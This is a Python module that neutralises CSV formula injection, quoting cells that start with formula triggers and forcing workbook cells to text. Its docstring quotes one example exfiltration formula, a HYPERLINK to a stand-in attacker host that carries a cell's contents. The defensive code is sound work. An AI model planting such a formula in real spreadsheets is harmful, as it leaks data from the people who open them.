"""Cells that a spreadsheet program will show as text, never run as a formula.

Titles, provision texts and notes come from remote HTML, PDFs and feeds; a cell
such as ``=HYPERLINK("https://evil.example/?"&A1)`` in a CSV govatlas writes
would run when a reviewer opens the file (CSV formula injection). Every CSV the
project writes goes through ``csv_writer`` or ``dict_writer``, which apply
OWASP's rule: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading single quote. Numbers ("-0.5") are left alone:
they cannot be formulas, and data columns stay numeric. A cell that already
starts with quotes before such a character gets one more, so ``restore`` (for
sheets read back) gives exactly the text written. Workbooks (openpyxl) store
such cells as strings instead (``text_row``), which no spreadsheet evaluates.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: object) -> object:
    """``value`` as a CSV cell that cannot start a formula (strings only change)."""
    if isinstance(value, str) and _NEEDS_QUOTE.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore(text: str) -> str:
    """A cell read back from a sheet, without the quote ``neutralise`` added."""
    if text.startswith("'") and _NEEDS_QUOTE.match(text[1:]) and not _NUMBER.fullmatch(text[1:]):
        return text[1:]
    return text


class CsvWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter:
    """``csv.DictWriter`` whose values (and header) are neutralised."""

    def __init__(self, handle: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(handle, fieldnames=self.fieldnames, **options)

    def writeheader(self) -> None:
        self._writer.writerow({name: neutralise(name) for name in self.fieldnames})

    def writerow(self, row: Mapping[str, object]) -> None:
        self._writer.writerow({key: neutralise(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: IO[str], **options: Any) -> CsvWriter:
    return CsvWriter(handle, **options)


def dict_writer(handle: IO[str], fieldnames: Sequence[str], **options: Any) -> DictWriter:
    return DictWriter(handle, fieldnames, **options)


def text_row(sheet: Any, values: Sequence[object]) -> None:
    """Append ``values`` to an openpyxl worksheet, every string stored as a string."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
